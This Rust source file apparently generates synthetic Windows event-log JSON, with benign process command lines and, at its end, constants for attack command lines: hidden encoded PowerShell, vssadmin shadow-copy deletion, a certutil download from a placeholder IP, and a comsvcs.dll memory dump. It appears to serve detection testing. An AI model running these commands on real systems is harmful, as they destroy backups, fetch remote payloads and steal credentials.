//! What events of all channels have in common:
//! <https://learn.microsoft.com/en-us/windows/win32/wes/eventschema-event-schema>.
use crate::context::Context;
use serde_json::{Value, json};

pub(super) const DOMAIN_SID: &str = "S-1-5-21-1111111111-2222222222-3333333333";

/// A channel and who writes to it.
pub(super) struct Channel {
    pub name: &'static str,
    pub provider: &'static str,
    pub provider_guid: &'static str,
    /// Events before the log's first one.
    pub records_before: u64,
}

/// Which event it is.
#[derive(Clone, Copy)]
pub(super) struct Kind {
    pub id: u64,
    pub version: u64,
    pub level: u64,
    pub task: u64,
    pub keywords: &'static str,
}

/// An event in the JSON that EVTX files are read into; `data` under `EventData` or what else `body` says.
pub(super) fn event(
    context: &mut Context,
    channel: &Channel,
    kind: Kind,
    computer: &str,
    body: &str,
    data: Value,
) -> Value {
    let mut event = json!({
        "System": {
            "Provider": { "#attributes": { "Name": channel.provider, "Guid": channel.provider_guid } },
            "EventID": kind.id,
            "Version": kind.version,
            "Level": kind.level,
            "Task": kind.task,
            "Opcode": 0,
            "Keywords": kind.keywords,
            "TimeCreated": { "#attributes": { "SystemTime": format!("{:.6}", context.at) } },
            "EventRecordID": channel.records_before + context.number,
            "Correlation": null,
            "Execution": { "#attributes": {
                "ProcessID": context.random.between(1, 1500) * 4, "ThreadID": context.random.between(1, 3000) * 4,
            } },
            "Channel": channel.name,
            "Computer": computer,
            "Security": { "#attributes": { "UserID": "S-1-5-18" } },
        },
    });
    event[body] = data;
    json!({ "Event": event })
}

/// A program that everyday work starts: its path, its command line, and its parent.
#[derive(Clone, Copy)]
pub(super) struct Program {
    pub image: &'static str,
    pub command: &'static str,
    pub parent: &'static str,
    pub description: &'static str,
}

const fn program(
    image: &'static str,
    command: &'static str,
    parent: &'static str,
    description: &'static str,
) -> Program {
    Program { image, command, parent, description }
}

const SERVICES: &str = r"C:\Windows\System32\services.exe";
const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const SHELL: &str = r"C:\Windows\System32\cmd.exe";

/// `#` in a command line is a number of its own.
pub(super) const PROGRAMS: [(u64, Program); 18] = [
    (
        20,
        program(
            SVCHOST,
            r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
            SERVICES,
            "Host Process for Windows Services",
        ),
    ),
    (
        14,
        program(
            r"C:\Windows\System32\conhost.exe",
            r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
            SHELL,
            "Console Window Host",
        ),
    ),
    (
        12,
        program(
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=# --lang=en-US --renderer-client-id=#",
            EXPLORER,
            "Google Chrome",
        ),
    ),
    (
        10,
        program(
            r"C:\Windows\System32\RuntimeBroker.exe",
            r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
            SVCHOST,
            "Runtime Broker",
        ),
    ),
    (
        8,
        program(
            r"C:\Windows\System32\backgroundTaskHost.exe",
            "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:CortanaUI.AppX#.mca",
            SVCHOST,
            "Background Task Host",
        ),
    ),
    (
        8,
        program(
            r"C:\Windows\System32\taskhostw.exe",
            "taskhostw.exe SYSTEM #",
            SVCHOST,
            "Host Process for Windows Tasks",
        ),
    ),
    (
        7,
        program(
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
            EXPLORER,
            "Microsoft Outlook",
        ),
    ),
    (
        6,
        program(
            r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\Public\\Documents\\report-#.xlsx\"",
            EXPLORER,
            "Microsoft Excel",
        ),
    ),
    (
        6,
        program(
            SHELL,
            "C:\\Windows\\system32\\cmd.exe /c \"C:\\Tools\\inventory.cmd\" #",
            SVCHOST,
            "Windows Command Processor",
        ),
    ),
    (
        5,
        program(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            r"powershell.exe -NoProfile -ExecutionPolicy AllSigned -File C:\Tools\health-check.ps1 -Run #",
            SVCHOST,
            "Windows PowerShell",
        ),
    ),
    (
        5,
        program(
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
            r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
            SVCHOST,
            "WMI Provider Host",
        ),
    ),
    (
        4,
        program(
            r"C:\Windows\System32\SearchProtocolHost.exe",
            "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe# Global\\UsGthrCtrlFltPipeMssGthrPipe# 1 -2147483646 \"Software\\Microsoft\\Windows Search\"",
            r"C:\Windows\System32\SearchIndexer.exe",
            "Microsoft Windows Search Protocol Host",
        ),
    ),
    (
        4,
        program(
            r"C:\Windows\System32\rundll32.exe",
            r"C:\Windows\system32\rundll32.exe /d acproxy.dll,PerformAutochkOperations",
            SVCHOST,
            "Windows host process (Rundll32)",
        ),
    ),
    (
        3,
        program(
            r"C:\Windows\System32\notepad.exe",
            "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\Public\\notes-#.txt",
            EXPLORER,
            "Notepad",
        ),
    ),
    (
        3,
        program(
            r"C:\Windows\System32\wevtutil.exe",
            "wevtutil.exe qe Application /c:# /f:xml",
            SHELL,
            "Eventing Command Line Utility",
        ),
    ),
    (2, program(r"C:\Windows\System32\net.exe", "net use Z: \\\\FS-01.example.com\\share-#", SHELL, "Net Command")),
    (
        2,
        program(
            r"C:\Windows\System32\schtasks.exe",
            r"schtasks.exe /query /tn \Tools\Inventory",
            SHELL,
            "Task Scheduler Configuration Tool",
        ),
    ),
    (1, program(r"C:\Windows\System32\certutil.exe", r"certutil.exe -verifystore My", SHELL, "CertUtil.exe")),
];

/// A program with its command line as it is this time.
pub(super) fn started(context: &mut Context) -> (Program, String) {
    let program = context.random.weighted(&PROGRAMS);
    let mut command = program.command.to_owned();
    while command.contains('#') {
        command = command.replacen('#', &context.random.between(1000, 99_999).to_string(), 1);
    }
    (program, command)
}

/// The attacks that are command lines: each with a name, a technique, a sign and the line, of which `#` is made up.
pub(super) const ENCODED: &str = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA#";
pub(super) const SHADOWS: &str = "vssadmin.exe delete shadows /all /quiet";
pub(super) const DOWNLOAD: &str = "certutil.exe -urlcache -split -f http://203.0.113.80/# update.exe";
pub(super) const MINIDUMP: &str =
    r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump # C:\Windows\Temp\d.bin full";
